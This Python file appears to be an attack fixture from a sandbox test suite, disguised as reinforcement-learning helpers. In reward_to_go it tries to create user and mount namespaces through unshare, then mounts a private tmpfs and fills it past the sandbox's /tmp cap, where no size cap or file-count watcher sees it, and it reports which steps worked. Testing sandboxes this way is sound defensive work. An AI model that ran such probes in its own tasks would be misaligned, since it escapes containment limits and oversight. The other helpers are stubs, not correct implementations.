"""Attack: make a user namespace of our own (then a mount namespace and a private tmpfs, which no
size cap or file-count watcher of the sandbox's /tmp sees). Reports what worked; the test expects
nothing."""
import ctypes
import os
import subprocess

CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def probe():
    worked = []
    try:  # the unshare(1) tool, in a child process
        if subprocess.run(["unshare", "-U", "-r", "true"], capture_output=True, timeout=10).returncode == 0:
            worked.append("unshare -U")
    except (OSError, subprocess.SubprocessError):
        pass
    uid, gid = os.getuid(), os.getgid()
    pid = os.fork()
    if pid == 0:  # the system call itself, then a private tmpfs filled past the sandbox's /tmp cap
        code = 0
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
                code |= 1
                for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                    with open(f"/proc/self/{name}", "w") as f:
                        f.write(text)
                os.makedirs("/tmp/private", exist_ok=True)
                if libc.mount(b"none", b"/tmp/private", b"tmpfs", 0, b"size=64m") == 0:
                    with open("/tmp/private/hold", "wb") as f:
                        f.write(b"x" * 32 * 2**20)  # twice the sandbox's /tmp cap (fixture: 16 MB)
                    code |= 2
        finally:
            os._exit(code)  # never back into the worker's loop
    _, status = os.waitpid(pid, 0)
    code = os.waitstatus_to_exitcode(status)
    if code > 0 and code & 1:
        worked.append("unshare(CLONE_NEWUSER)")
    if code > 0 and code & 2:
        worked.append("a private tmpfs past the /tmp cap")
    return worked


def discounted_return(rewards, gamma):
    return 0.0


def reward_to_go(rewards, gamma):
    raise RuntimeError(f"userns: {probe()}")  # the attack test reads this message


def normalize(values):
    return values
